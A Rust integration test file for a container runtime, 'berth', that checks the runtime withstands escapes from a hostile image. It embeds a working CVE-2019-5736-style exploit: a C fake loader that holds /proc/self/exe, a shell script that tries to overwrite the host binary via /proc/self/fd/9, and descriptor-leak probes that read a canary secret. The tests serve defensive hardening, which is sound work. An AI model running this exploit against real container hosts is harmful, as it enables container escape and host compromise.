//! Attacks on the container wall from a hostile image, run as the unprivileged user against a
//! berth binary that user owns (as `cargo install` or `~/bin` leave it): the host binary, the
//! caller's descriptors and the init must stay out of the container's reach.
//!
//! The binary attack (CVE-2019-5736 class) uses a script whose first line is
//! `#!/proc/self/exe` and a fake dynamic loader at `/lib64/ld-linux-x86-64.so.2`: if the
//! process that executes the script is berth, the kernel runs berth's host binary inside the
//! container with the fake loader, which keeps the binary open and, once no berth process
//! runs it, reopens it for writing through /proc/self/fd.

#![cfg(target_arch = "x86_64")]

mod common;

use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use common::{assert_exit, berth_bin, describe, finish, stdout, Berth, IMAGE};

/// The fake loader: holds /proc/self/exe (the binary that was executed: berth, before the
/// fix) as descriptor 9, says so in /x/result, and becomes `sh /x/attack.sh` with the
/// script's first argument.
const FAKE_LOADER: &str = r#"
#include <asm/unistd.h>
static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
__asm__(".global _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call loader\n hlt\n");
void loader(long *sp) {
    char **argv = (char **)(sp + 1);
    long fd = sys3(__NR_open, (long)"/proc/self/exe", 0, 0);
    long out = sys3(__NR_open, (long)"/x/result", 02101, 0666);
    static const char msg[] = "holding the runtime binary\n";
    sys3(__NR_write, out, (long)msg, sizeof msg - 1);
    sys3(__NR_dup2, fd, 9, 0);
    char *args[] = {"sh", "/x/attack.sh", sp[0] > 2 ? argv[2] : "fg", 0};
    char *env[] = {"PATH=/bin", 0};
    sys3(__NR_execve, (long)"/bin/sh", (long)args, (long)env);
    sys3(__NR_exit_group, 99, 0, 0);
}
"#;

/// Tries for 5 s to write through the descriptor the loader left, once berth has exited (in
/// the background with `bg`, so that `berth exec` can return).
const ATTACK: &str = r#"
attack() {
    i=0
    while [ $i -lt 50 ]; do
        if (printf 'overwritten by the container\n' > /proc/self/fd/9) 2>/dev/null; then
            echo "overwrote the runtime binary" >> /x/result
            return
        fi
        i=$((i + 1))
        sleep 0.1
    done
    echo "could not write" >> /x/result
}
if [ "$1" = bg ]; then attack </dev/null >/dev/null 2>&1 & else attack; fi
"#;

/// The hostile files (`lib64/`, `x/`) in the fixture's host directory, and a copy of berth
/// (with its monitor) that the user owns; returns the copy.
fn prepare(berth: &Berth) -> PathBuf {
    let lib64 = berth.host_mkdir("lib64");
    let x = berth.host_mkdir("x");
    fs::set_permissions(&x, fs::Permissions::from_mode(0o777)).unwrap();
    let source = x.join("loader.c");
    fs::write(&source, FAKE_LOADER).unwrap();
    let loader = lib64.join("ld-linux-x86-64.so.2");
    let cc = Command::new("cc")
        .args([
            "-static",
            "-nostdlib",
            "-nostartfiles",
            "-fno-stack-protector",
        ])
        .args(["-fno-pie", "-no-pie", "-O1", "-o"])
        .arg(&loader)
        .arg(&source)
        .output()
        .expect("running cc (scripts/setup-host installs gcc)");
    assert!(
        cc.status.success(),
        "compiling the fake loader: {}",
        String::from_utf8_lossy(&cc.stderr)
    );
    fs::write(x.join("attack.sh"), ATTACK).unwrap();
    fs::write(x.join("evil"), "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(x.join("evil"), fs::Permissions::from_mode(0o755)).unwrap();

    let bin = berth.host_mkdir("bin");
    let built = Path::new(berth_bin());
    for name in ["berth", "berth-monitor"] {
        let from = built.with_file_name(name);
        let to = bin.join(name);
        fs::copy(&from, &to).unwrap_or_else(|e| panic!("copying {}: {e}", from.display()));
        fs::set_permissions(&to, fs::Permissions::from_mode(0o755)).unwrap();
        berth.give(&to);
    }
    bin.join("berth")
}

fn digest(path: &Path) -> String {
    hex::encode(Sha256::digest(fs::read(path).unwrap()))
}

/// What the attack wrote, once it has finished (or at once, if it never started).
fn attack_result(berth: &Berth) -> String {
    let result = berth.host_path("x").join("result");
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let text = fs::read_to_string(&result).unwrap_or_default();
        let finished =
            text.is_empty() || text.contains("overwrote") || text.contains("could not write");
        if finished || Instant::now() > deadline {
            return text;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// berth's binary is as it was, and the fake loader never ran (which only happens when the
/// binary executed inside the container was berth's).
fn assert_untouched(berth: &Berth, copy: &Path, before: &str) {
    let result = attack_result(berth);
    assert_eq!(
        digest(copy),
        before,
        "the container changed berth's binary: {result}"
    );
    assert!(
        result.is_empty(),
        "berth's binary was executed inside the container: {result}"
    );
}

fn hostile_mounts(berth: &Berth) -> Vec<String> {
    vec![
        "-v".into(),
        format!("{}:/lib64", berth.host_path("lib64").display()),
        "-v".into(),
        format!("{}:/x", berth.host_path("x").display()),
    ]
}

fn run_copy(berth: &Berth, copy: &Path, args: &[&str]) -> std::process::Output {
    finish(berth.command_of(copy, args), None, args)
}

#[test]
fn run_d_never_hands_the_container_berths_binary() {
    let Some(berth) = Berth::new() else { return };
    let copy = prepare(&berth);
    let before = digest(&copy);
    let mounts = hostile_mounts(&berth);
    // No network: with one, a berth helper process runs the binary as long as the container,
    // and the kernel refuses writes to a running executable (ETXTBSY) — luck, not a wall.
    let mut args = vec!["run", "-d", "--network", "none", "--name", "evil"];
    args.extend(mounts.iter().map(String::as_str));
    args.extend([IMAGE, "/x/evil"]);
    let out = run_copy(&berth, &copy, &args);
    assert_exit(&args, &out, 0);
    // The attack, had it started, writes for up to 5 s as PID 1; wait ends with it.
    let waited = run_copy(&berth, &copy, &["wait", "evil"]);
    assert_exit(&["wait", "evil"], &waited, 0);
    assert_untouched(&berth, &copy, &before);
    // The script's interpreter, /proc/self/exe, was berth's sealed helper: it refuses to run.
    assert_eq!(stdout(&waited).trim(), "127", "{}", describe(&args, &out));
    run_copy(&berth, &copy, &["rm", "evil"]);
}

#[test]
fn exec_never_hands_the_container_berths_binary() {
    let Some(berth) = Berth::new() else { return };
    let copy = prepare(&berth);
    let before = digest(&copy);
    let mounts = hostile_mounts(&berth);
    let mut args = vec!["run", "-d", "--network", "none", "--name", "victim"];
    args.extend(mounts.iter().map(String::as_str));
    args.extend([IMAGE, "sleep", "1000"]);
    assert_exit(&args, &run_copy(&berth, &copy, &args), 0);
    let exec = ["exec", "victim", "/x/evil", "bg"];
    let out = run_copy(&berth, &copy, &exec);
    assert_exit(&exec, &out, 127);
    assert_untouched(&berth, &copy, &before);
    run_copy(&berth, &copy, &["rm", "-f", "victim"]);
}

/// Inside the container, /proc/self/exe of a process berth started never names berth's
/// binary, and the helper in its place cannot be written.
#[test]
fn the_init_is_a_sealed_helper_under_the_containers_walls() {
    let Some(berth) = Berth::new() else { return };
    let script = "readlink /proc/1/exe; tr '\\0' ' ' < /proc/1/cmdline; echo; \
                  if echo x > /proc/1/exe; then echo WRITABLE; fi; \
                  grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/1/status; \
                  grep -E '^(CapEff|CapBnd|NoNewPrivs|Seccomp):' /proc/self/status";
    let out = berth.container_ok(&["--init", IMAGE, "sh", "-c", script]);
    let rows = common::lines(&out);
    assert!(
        rows[0].starts_with("/memfd:berth-dmz"),
        "PID 1 runs from the sealed memfd: {out}"
    );
    let host_dir = Path::new(berth_bin()).parent().unwrap();
    assert!(
        !out.contains(&*host_dir.to_string_lossy()),
        "the container sees berth's host path:\n{out}"
    );
    assert!(
        !rows.iter().any(|r| r == "WRITABLE"),
        "PID 1's program is writable:\n{out}"
    );
    // The init's walls are the command's: the same capabilities, no_new_privs and seccomp.
    let init: Vec<&String> = rows.iter().skip(2).take(4).collect();
    let command: Vec<&String> = rows.iter().skip(6).take(4).collect();
    assert_eq!(init, command, "{out}");
    assert!(
        init.iter()
            .any(|r| r.starts_with("Seccomp:") && r.ends_with('2')),
        "{out}"
    );
    assert!(
        init.iter()
            .any(|r| r.starts_with("NoNewPrivs:") && r.ends_with('1')),
        "{out}"
    );
}

/// A directory descriptor open in whatever ran berth, numbered 7.
fn with_fd_7(mut cmd: Command, dir: &Path) -> Command {
    let file = fs::File::open(dir).unwrap();
    // SAFETY: the closure only calls dup2, which is async-signal-safe; `file` outlives it.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(file.as_raw_fd(), 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    cmd
}

fn secret_dir(berth: &Berth) -> (PathBuf, String) {
    let dir = berth.host_mkdir("private");
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o700)).unwrap();
    let secret = format!("host-secret-{}", std::process::id());
    fs::write(dir.join("canary"), &secret).unwrap();
    berth.give(&dir.join("canary"));
    (dir, secret)
}

#[test]
fn the_callers_descriptors_never_reach_the_container() {
    let Some(berth) = Berth::new() else { return };
    let (dir, secret) = secret_dir(&berth);
    let peek = "ls /proc/self/fd; cat /proc/self/fd/7/canary; true";

    let args = ["run", "--rm", IMAGE, "sh", "-c", peek];
    let out = finish(with_fd_7(berth.command(&args), &dir), None, &args);
    assert_exit(&args, &out, 0);
    assert!(!stdout(&out).contains(&secret), "{}", describe(&args, &out));
    assert!(
        !common::lines(&stdout(&out)).iter().any(|l| l == "7"),
        "descriptor 7 is open in the container:\n{}",
        describe(&args, &out)
    );

    // As the working directory: Docker's code for a process that cannot start.
    let args = [
        "run",
        "--rm",
        "-w",
        "/proc/self/fd/7",
        IMAGE,
        "cat",
        "canary",
    ];
    let out = finish(with_fd_7(berth.command(&args), &dir), None, &args);
    assert!(!stdout(&out).contains(&secret), "{}", describe(&args, &out));
    assert_exit(&args, &out, 125);

    let args = ["run", "-d", "--name", "leak", IMAGE, "sh", "-c", peek];
    let out = finish(with_fd_7(berth.command(&args), &dir), None, &args);
    assert_exit(&args, &out, 0);
    berth.run_ok(&["wait", "leak"]);
    let logs = berth.run_ok(&["logs", "leak"]);
    assert!(
        !logs.contains(&secret),
        "run -d leaked descriptor 7:\n{logs}"
    );

    // The container's monitor, network helpers and the like hold none of the caller's files.
    let args = ["run", "-d", "--name", "target", IMAGE, "sleep", "1000"];
    let out = finish(with_fd_7(berth.command(&args), &dir), None, &args);
    assert_exit(&args, &out, 0);
    // berth's own short-lived forks (the set-up stages) may still be on their way out when
    // `run -d` returns: only a process that stays may not hold the file.
    let holders = || -> Vec<String> {
        let mut found = Vec::new();
        for p in berth.own_processes() {
            let fds = fs::read_dir(format!("/proc/{}/fd", p.pid))
                .into_iter()
                .flatten();
            for fd in fds.flatten() {
                let target = fs::read_link(fd.path()).unwrap_or_default();
                if target.starts_with(&dir) {
                    found.push(format!("{} ({}): {}", p.pid, p.cmdline, target.display()));
                }
            }
        }
        found
    };
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut held = holders();
    while !held.is_empty() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        held = holders();
    }
    assert!(
        held.is_empty(),
        "berth's processes hold the caller's files:\n{}",
        held.join("\n")
    );
    let args = ["exec", "target", "sh", "-c", peek];
    let out = finish(with_fd_7(berth.command(&args), &dir), None, &args);
    assert_exit(&args, &out, 0);
    assert!(!stdout(&out).contains(&secret), "{}", describe(&args, &out));
    berth.run_ok(&["rm", "-f", "target", "leak"]);
}
